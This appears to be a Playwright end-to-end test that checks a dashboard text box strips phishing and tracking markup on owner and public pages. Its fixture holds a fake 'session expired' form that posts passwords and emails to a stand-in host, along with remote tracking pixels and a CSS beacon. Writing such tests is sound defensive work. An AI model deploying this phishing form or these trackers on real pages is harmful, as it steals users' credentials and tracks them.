import { beforeAll, describe, expect, it } from "vitest";
import type { Page } from "playwright-core";
import { screenshot } from "./browser";
import { useBrowserApp } from "./fixtures/browserApp";
import { addTextboxWidget, createDashboard } from "./fixtures/dashboards";
import { pollFor } from "./fixtures/poll";

const poll = pollFor(30_000);

/** A host no request may go to: a text box's remote image would be fetched from it. */
const TRACKER = "tracker.invalid";

/**
 * A text box that tries to phish and to track its readers: a form with a password field posting
 * elsewhere, and remote images. Beside them, what a text box may show.
 */
const TEXT = [
  "## Quarterly notes",
  "",
  `<form action="https://${TRACKER}/steal" method="post"><label>Session expired, password:</label>` +
    '<input type="password" name="password"><input type="text" name="email">' +
    '<button type="submit">Sign in again</button></form>',
  "",
  `![pixel](https://${TRACKER}/pixel.png) <img src="//${TRACKER}/beacon.gif" alt="beacon">`,
  "",
  '<p style="background-image: url(https://tracker.invalid/bg.png)">Styled line</p>',
  "",
  '<img src="/favicon.svg" alt="logo" width="32"> ![dot](data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==)',
  "",
  "[Docs](https://example.com/docs)",
].join("\n");

/** The text box on the page shows its text and nothing of the form or the remote images. */
async function expectHarmless(page: Page, trackerRequests: string[]) {
  const box = page.locator("[data-widget-type=textbox]");
  await poll(() => box.textContent()).toContain("Quarterly notes");
  expect(await box.textContent()).toContain("Styled line");
  for (const selector of ["form", "input", "button[type=submit]", "textarea"]) {
    expect(await box.locator(selector).count(), selector).toBe(0);
  }
  expect(await page.locator("input[type=password]").count()).toBe(0);
  expect(await box.locator(`img[src*="${TRACKER}"]`).count()).toBe(0);
  // A remote image shows its alt text.
  expect(await box.textContent()).toContain("beacon");
  expect(await box.locator("[style*=url]").count()).toBe(0);
  // The app's own image and a data: image still show; links to other sites stay.
  await poll(() =>
    box.locator('img[src="/favicon.svg"]').evaluate((img: HTMLImageElement) => img.naturalWidth),
  ).toBeGreaterThan(0);
  expect(await box.locator('img[src^="data:image/gif"]').count()).toBe(1);
  expect(await box.locator('a[href="https://example.com/docs"]').count()).toBe(1);
  expect(trackerRequests).toEqual([]);
}

describe("Text box safety", () => {
  const app = useBrowserApp();
  let dashboardId: number;
  let publicPath: string;

  beforeAll(async () => {
    const board = await createDashboard(app.api, "Text box safety", { published: true });
    dashboardId = board.id;
    await addTextboxWidget(app.api, dashboardId, TEXT, {
      position: { col: 0, row: 0, sizeX: 6, sizeY: 8 },
    });
    const shared = await app.api.post<{ public_url: string }>(
      `/api/dashboards/${dashboardId}/share`,
    );
    expect(shared.status, shared.text).toBe(200);
    const url = new URL(shared.body.public_url);
    publicPath = `${url.pathname}${url.search}`;
  });

  it("shows no form, password field or remote image on the dashboard and its public page", async () => {
    const owner = await app.openSignedIn();
    const ownerRequests: string[] = [];
    owner.page.on("request", (r) => {
      if (r.url().includes(TRACKER)) ownerRequests.push(r.url());
    });
    await owner.page.goto(`/dashboards/${dashboardId}`);
    await expectHarmless(owner.page, ownerRequests);
    await screenshot(owner.page, "text-box-safety-dashboard");
    await owner.context.close();

    const visitor = await app.open();
    const visitorRequests: string[] = [];
    visitor.page.on("request", (r) => {
      if (r.url().includes(TRACKER)) visitorRequests.push(r.url());
    });
    await visitor.page.goto(publicPath);
    await expectHarmless(visitor.page, visitorRequests);
    await screenshot(visitor.page, "text-box-safety-public");
    await visitor.context.close();
  });
});
